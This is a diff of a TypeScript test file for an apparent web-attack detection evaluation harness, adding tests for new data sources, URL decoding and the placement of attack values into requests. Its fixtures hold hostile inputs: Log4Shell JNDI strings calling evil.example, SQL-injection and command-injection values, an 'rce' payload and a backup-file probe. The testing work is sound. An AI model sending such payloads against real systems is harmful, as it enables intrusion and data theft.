@@ -1,7 +1,7 @@
 import t from 'tap'
-import { codeLiterals, ftwValues, jsonFields, jsonStrings, parseCsic, stripNotes, yamlItems } from './eval/build.ts'
-import { FRESH2_SOURCES, FRESH_SOURCES, SOURCES } from './eval/sources.ts'
-import { asUrl, backupProbes, fragmentReason, hash32, partOf, placeAttack, placeBenign, queryValue } from './eval/place.ts'
+import { codeLiterals, csvField, ftwParts, ftwValues, jsonFields, jsonRecords, jsonStrings, parseCsic, stripNotes, yamlItems } from './eval/build.ts'
+import { FRESH2_SOURCES, FRESH3_SOURCES, FRESH_SOURCES, SOURCES } from './eval/sources.ts'
+import { asUrl, backupProbes, fragmentReason, hash32, partOf, placeAttack, placeBenign, queryValue, urlDecodedOnce } from './eval/place.ts'
 
 // The public evaluation's rules (test/insight/eval/): no network and no snapshot needed here.
 
@@ -181,4 +181,52 @@ t.test('a WAF\'s regression tests: the values of the requests expected to be det
     '          log_contains: id "944150"',
   ].join('\n')
   t.same(ftwValues(ftw), ['${jndi:ldap://evil.example/a}', '1', '%27or%201', '/get', '%24%7Bjndi%3Aldap%7D', '2', '/post', '<x>${jndi:dns://evil.example}</x>'])
+})
+
+t.test('the third fresh part: sources none of the earlier parts uses, pinned, licences recorded', async (t) => {
+  const earlier = new Set([...SOURCES, ...FRESH_SOURCES, ...FRESH2_SOURCES].map((s) => s.repo))
+  t.ok(FRESH3_SOURCES.length > 0)
+  for (const s of FRESH3_SOURCES) {
+    t.notOk(earlier.has(s.repo), `${s.repo} is not a source of the halves, the fresh part or the second fresh part`)
+    t.match(s.commit, /^[0-9a-f]{40}$/, `${s.repo} is pinned by commit`)
+    t.ok(s.licence.length > 0, `${s.repo} has its licence recorded`)
+  }
+  t.equal(new Set(FRESH3_SOURCES.map((s) => s.repo)).size, FRESH3_SOURCES.length, 'each source listed once')
+})
+
+t.test('a value taken encoded from a raw request\'s URL: as written in a URL place, decoded once elsewhere', async (t) => {
+  t.equal(urlDecodedOnce('1+OR+%271%27%3D%271', 'query'), "1 OR '1'='1", 'a query value: "+" is a blank')
+  t.equal(urlDecodedOnce('/a+b/%2e%2e', 'path'), '/a+b/..', 'a path: "+" is a plus')
+  t.equal(urlDecodedOnce('%ff%27', 'query'), "\u00ff'", 'escapes that are no UTF-8: their bytes')
+  // the regression tests' URI and form values are encoded; their headers, cookies and other bodies are not
+  const ftw = ['tests:', '  - test_id: 1', '    stages:', '      - input:', '          headers:', '            X-A: "%27x"', '          uri: "/a%20b?q=1+OR+%271"', '          data: "c=%3Bid"', '        output:', '          expect_ids: [1]'].join('\n')
+  t.same(ftwParts(ftw), [{ value: '%27x' }, { value: '/a%20b', encoded: 'path' }, { value: '1+OR+%271', encoded: 'query' }, { value: '%3Bid', encoded: 'query' }])
+  // the same place is chosen as for the value written as it is; only its encoding differs
+  const p = 'FOR+%2FL+%25%25G+IN+%281%2C1%2C5%29+DO+echo+%25%25G'
+  let json = false
+  let query = false
+  for (let i = 0; i < 64; i++) {
+    const v = `${p}+${i}`
+    const plain = placeAttack('rce', v)
+    const enc = placeAttack('rce', v, 'query')
+    t.equal(enc.where, plain.where)
+    if (enc.where.startsWith('json:')) {
+      json = true
+      t.equal((JSON.parse(enc.body!) as Record<string, string>)[enc.where.slice(5)], `FOR /L %%G IN (1,1,5) DO echo %%G ${i}`, 'decoded once in a JSON field')
+    }
+    if (enc.where.startsWith('query:')) {
+      query = true
+      t.ok(enc.query.endsWith(`=${v}`), 'as written in the query')
+    }
+    if (enc.where.startsWith('header:')) t.notMatch(Object.values(enc.headers).join(' '), /%25%25G/, 'decoded once in a header')
+  }
+  t.ok(json && query, 'both kinds of place were tried')
+})
+
+t.test('the third fresh sources are cut as written: CSV fields, records', async (t) => {
+  t.equal(csvField('"000001","","b","/admin/config.php.bak","GET","CODE:200"', 3), '/admin/config.php.bak')
+  t.equal(csvField('"1","a ""quoted"" one"', 1), 'a "quoted" one')
+  t.equal(csvField('"1"', 3), null)
+  t.same(jsonRecords('{"addresses":[{"address1":"1 Main St","city":"Springfield","state":"IL"},{"address1":"2 Elm St","city":""}]}', ['address1', 'city', 'state']), ['1 Main St, Springfield, IL'])
+  t.same(jsonRecords('not json', ['a']), [])
 })
